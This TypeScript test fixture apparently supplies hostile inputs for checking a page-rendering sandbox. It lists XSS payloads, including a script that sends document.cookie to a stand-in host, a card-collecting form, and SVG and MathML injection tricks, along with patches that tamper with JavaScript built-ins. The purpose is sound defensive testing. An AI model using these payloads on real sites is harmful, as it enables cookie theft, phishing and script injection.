const page = (markup: string) => `<main id="content">${markup}</main>`;

/** Markup of a page that a team's code returns for its own path. None of it reaches a document. */
export const hostileMarkup: readonly (readonly [string, string])[] = [
  ['a script', page('<script>fetch("//evil.example/"+document.cookie)</script>')],
  ['a script after its end', `${page('x')}<script>1</script>`],
  ['an end of the page', page('x</main></div></body></html><h1>gone</h1><main>')],
  ['a second page', `${page('x')}${page('y')}`],
  ['the data of the document', page('<div id="page">{"composition":{"id":9}}</div>')],
  ['a script of the document', page('<div id="module-lists">{}</div>')],
  ['a base', page('<base href="//evil.example/">')],
  ['a meta', page('<meta http-equiv="refresh" content="0;url=//evil.example">')],
  ['a style', page('<style>body{display:none}</style>')],
  ['a link to styles', page('<link rel="stylesheet" href="//evil.example/x.css">')],
  ['a frame', page('<iframe src="//evil.example"></iframe>')],
  ['an object', page('<object data="//evil.example"></object>')],
  ['a handler', page('<img src="/x.png" onerror="alert(1)">')],
  ['a link that runs', page('<a href="javascript:alert(1)">x</a>')],
  ['a link that runs after a tab', page('<a href="java\tscript:alert(1)">x</a>')],
  ['a form to elsewhere', page('<form action="//evil.example"><input name="card"></form>')],
  ['a button that sends elsewhere', page('<button formaction="//evil.example">x</button>')],
  ['a picture from elsewhere', page('<img src="//evil.example/pixel.png" alt="">')],
  ['a comment that does not end', page('<!-- x')],
  ['plain text without end', page('<plaintext>')],
  ['a text area that does not end', page('<textarea>')],
  ['a picture with a script', page('<svg><script>alert(1)</script></svg>')],
  ['a picture with foreign markup', page('<svg><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>')],
  ['formulas that hide a style', page('<math><mtext><table><mglyph><style><img src onerror=alert(1)>')],
  ['a template', page('<template><script>1</script></template>')],
  ['ten thousand nested elements', page(`${'<div>'.repeat(10_000)}${'</div>'.repeat(10_000)}`)],
  ['two megabytes', page('x'.repeat(2_000_000))],
  ['nothing', ''],
  ['no text', '0;'],
];

/** The source of a remote that returns markup. */
export const returning = (markup: string): string => `export default () => ${JSON.stringify(markup)};`;

/** Code that changes what the program of the sandbox uses, before its page is drawn. */
export const patches: readonly (readonly [string, string])[] = [
  [
    'JSON',
    `JSON.stringify = () => '{"path":"/","language":"en","isFrame":false,"rendered":{"html":"<main>stolen</main>","styles":"","answers":{}}}';`,
  ],
  ['the encoder', `TextEncoder.prototype.encode = () => new Uint8Array(100);`],
  ['the lengths of frames', `DataView.prototype.setUint32 = function () { new Uint8Array(this.buffer).fill(255); };`],
  ['all objects', `Object.prototype.rendered = { html: '<main>stolen</main>', styles: '', answers: {} }; Object.prototype.path = '/';`],
  ['all arrays', `Array.prototype[Symbol.iterator] = function* () { yield { path: '/', language: 'en', isFrame: false }; };`],
  ['promises', `Promise.prototype.then = () => {};`],
  ['its shared modules', `for (const name of Object.keys(globalThis.nitidaShared ?? {})) globalThis.nitidaShared[name] = null;`],
];
